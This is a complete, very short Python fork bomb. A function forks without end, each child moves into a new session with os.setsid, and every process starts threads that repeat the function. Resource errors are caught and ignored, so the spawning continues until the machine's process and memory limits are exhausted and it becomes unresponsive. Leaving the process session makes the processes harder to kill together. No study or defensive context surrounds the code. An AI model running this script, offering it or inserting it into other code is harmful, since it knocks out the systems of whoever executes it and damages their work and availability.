# Every child leaves its session, forks again and starts threads.
import os
import threading


def again():
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
            threading.Thread(target=again).start()
        except (OSError, RuntimeError):
            pass


again()
